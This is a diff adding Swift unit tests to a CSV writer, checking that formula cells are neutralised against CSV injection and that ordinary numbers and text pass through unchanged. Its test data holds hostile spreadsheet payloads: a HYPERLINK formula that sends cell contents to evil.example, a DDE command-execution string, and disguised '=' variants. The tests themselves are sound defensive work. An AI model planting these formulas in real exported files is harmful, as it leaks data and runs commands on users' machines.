@@ -32,4 +32,28 @@ import Testing
         #expect(text == "plain,\"with, comma\",\"with \"\"quote\"\"\",\"line\nbreak\",\" edge \",\r\n")
         #expect(try CSV.records(text).map(\.fields) == rows)
     }
+
+    /// OWASP's CSV injection: a cell a spreadsheet would run is written as text, judged by its
+    /// first byte, so `=` with a combining mark or a variation selector is caught too.
+    @Test func formulaCellsAreNeutralisedByTheirFirstByte() throws {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Grades\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "=\u{301}HYPERLINK(\"http://evil.example\")", "=\u{FE0F}1+1", "=\u{20D7}2",
+        ]
+        let text = CSV.text([hostile])
+        for field in try CSV.records(text)[0].fields {
+            #expect(field.hasPrefix("'"), "\(field.debugDescription)")
+        }
+        #expect(try CSV.records(text)[0].fields == hostile.map { "'" + $0 })
+        #expect(CSV.field("=\u{301}x") == "'=\u{301}x")
+        #expect(CSV.lines([["=1", "ok"]]) == ["'=1,ok"])
+    }
+
+    @Test func numbersAndHarmlessTextStayAsTheyAre() {
+        for plain in ["-3", "+2.5", "-1e-5", "0", "ana", "3B", "Math Jam", "a=b", " -x "] where !plain.hasPrefix(" ") {
+            #expect(CSV.field(plain) == plain)
+        }
+        #expect(CSV.field("-") == "'-")
+        #expect(CSV.field("-inf") == "'-inf")
+    }
 }
